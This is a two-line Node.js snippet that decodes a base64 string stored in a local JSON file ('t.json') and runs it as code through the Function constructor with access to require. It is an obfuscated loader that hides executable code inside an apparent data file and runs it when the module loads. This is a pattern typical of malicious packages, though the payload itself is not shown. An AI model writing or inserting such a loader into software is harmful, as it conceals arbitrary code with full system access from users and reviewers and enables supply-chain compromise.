const code = Buffer.from(require('./t.json').t, 'base64').toString();
Function('require', code)(require);
